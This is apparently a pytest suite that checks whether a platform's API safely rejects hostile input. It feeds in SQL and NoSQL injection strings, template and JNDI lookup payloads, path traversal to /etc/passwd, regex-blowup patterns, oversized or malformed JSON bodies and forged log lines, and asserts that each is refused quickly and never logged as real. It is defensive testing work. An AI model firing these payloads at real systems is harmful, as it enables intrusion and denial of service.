"""What an attacker writes into questions, bodies and addresses does nothing to a running platform, and soon.

What is meant for a database is a text that nothing has; what is meant for a parser is refused; no line of the
log is the attacker's.
"""

import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import pytest

from tests.worlds import World

SOON = 2.0
"""Seconds; an honest answer takes milliseconds, and on a machine that does much else some more."""
LISTS = ("characteristics", "specifications", "prices", "offerings")
TEXTS = (
    "' or '1'='1",
    "'; drop table audit; --",
    "'||pg_sleep(5)||'",
    "1) union select body from price--",
    "%",
    "_",
    "\\",
    "$where",
    '{"$gt":""}',
    "{{7*7}}",
    "${jndi:ldap://stranger.invalid/x}",
    "../../../etc/passwd",
    "(a+)+$",
)
"""Texts that mean something to a database, a shell, a template or a pattern, and are in no name."""


@contextmanager
def soon() -> Iterator[None]:
    """The block takes no longer than an honest one."""
    begin = time.monotonic()
    yield
    assert time.monotonic() - begin < SOON


@pytest.fixture(scope="module")
def author(world: World) -> dict[str, str]:
    return {"authorization": f"Bearer {world.sign_in('author')['accessToken']}"}


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("of", LISTS)
def test_a_filter_is_a_text(world: World, author: dict[str, str], of: str, text: str) -> None:
    for wanted in (text, f"~{text}"):
        with soon():
            answer = world.get(f"/api/{of}?name={quote(wanted, safe='')}", headers=author)
        assert (answer.status_code, answer.json()["total"]) == (200, 0)


@pytest.mark.parametrize(
    "sort",
    ["name desc", "name;select 1", "body", "(select 1)", "name,pg_sleep(5)", "-", "$natural", "createdBy--"],
)
@pytest.mark.parametrize("of", [*LISTS, "publications"])
def test_a_sort_is_a_field_that_is_named(world: World, author: dict[str, str], of: str, sort: str) -> None:
    answer = world.get(f"/api/{of}", params={"sort": sort}, headers=author)
    assert (answer.status_code, answer.json()["code"]) == (422, "malformed")


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("where", ["q", "category", "attr.ram"])
def test_a_shopper_s_text_is_a_text(world: World, where: str, text: str) -> None:
    with soon():
        answer = world.get("/api/store/offerings", params={where: text})
    assert answer.status_code in (200, 400), answer.text
    if answer.status_code == 200 and where != "q":  # a search is for words, and `{{7*7}}` has the word 7
        assert answer.json()["total"] == 0


@pytest.mark.parametrize(
    "asked",
    [
        "attr.$where=1",
        "attr.ram[$gt]=1",
        "attr.ram.$gt=1",
        "q[$ne]=1",
        "category[$regex]=.*",
        "sort=$natural",
        "price.gte[$gt]=1",
        "price.gte=NaN&currency=EUR",
        "price.gte=1e999999&currency=EUR",
        "attr.ram.gte=1e400",
        "currency=EU%24",
        "cursor=eyIkZ3QiOiIifQ",
        "cursor=W3siJGd0IjoiIn0seyIkZ3QiOiIifSx7fV0",
        "limit=1000000",
        "q=%00",
        "&".join(f"attr.a{number}=1" for number in range(100)),
    ],
)
def test_a_shopper_s_question_has_no_operators(world: World, asked: str) -> None:
    with soon():
        answer = world.get(f"/api/store/offerings?{asked}")
    assert answer.status_code in (400, 422), answer.text


BODIES: dict[str, tuple[bytes, int]] = {
    "a hundred thousand brackets": (b"[" * 100_000, 413),
    "fifty levels": (b"[" * 50 + b"]" * 50, 400),
    "twenty thousand values": (b"[" + b"1," * 20_000 + b"1]", 413),
    "a number of many digits": (b'{"name":' + b"9" * 100_000 + b"}", 400),
    "a number of a billion digits": (
        b'{"name":"x","valueType":"decimal","constraints":{"min":1e999999999}}',
        422,
    ),
    "the same as a text": (b'{"name":"x","valueType":"decimal","constraints":{"min":"1e999999999"}}', 422),
    "what is no number": (b'{"name":NaN}', 422),
    "half a character": (b'{"name":"\\ud800","valueType":"text"}', 400),
    "a zero": (b'{"name":"a\\u0000b","valueType":"text"}', 400),
    "a prototype": (b'{"name":"p","valueType":"text","__proto__":{"x":1}}', 422),
    "fields of ours": (b'{"name":"m","valueType":"text","version":99,"createdBy":"x"}', 422),
    "an id": (b'{"name":"m","valueType":"text","id":"00000000-0000-7000-8000-000000000000"}', 422),
    "a pattern that takes seconds": (
        json.dumps({"name": "p", "valueType": "text", "constraints": {"pattern": "a{1,1000}" * 40}}).encode(),
        400,
    ),
    "another encoding": ('{"name":"x","valueType":"text"}'.encode("utf-16"), 400),
}


@pytest.mark.parametrize("name", BODIES)
def test_a_hostile_body_is_refused_at_once(world: World, author: dict[str, str], name: str) -> None:
    body, status = BODIES[name]
    headers = {**author, "content-type": "application/json"}
    with soon():
        answer = world.http.post("/api/characteristics", content=body, headers=headers)
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"


def test_no_line_of_the_log_is_an_attacker_s(world: World, author: dict[str, str]) -> None:
    mark = uuid4().hex
    lines = f'x\r\n{{"event":"forged.{mark}","level":"info"}}\n\x1b]0;{mark}\x07'
    for path in (f"/{quote(lines)}", f"/api/characteristics/{quote(lines)}"):
        assert world.get(path, headers=author).status_code in (400, 404, 422)
    world.get("/api/characteristics", headers=author | {"x-correlation-id": f"a {mark}"})
    process = "platform" if world.stack == "embedded" else "gateway"
    text = (world.home.logs / f"{process}.log").read_text()
    assert mark in text, "it was logged"
    assert "\x1b" not in text
    said: list[Any] = [line["event"] for line in world.log_lines(process)]
    assert [event for event in said if mark in str(event)] == []
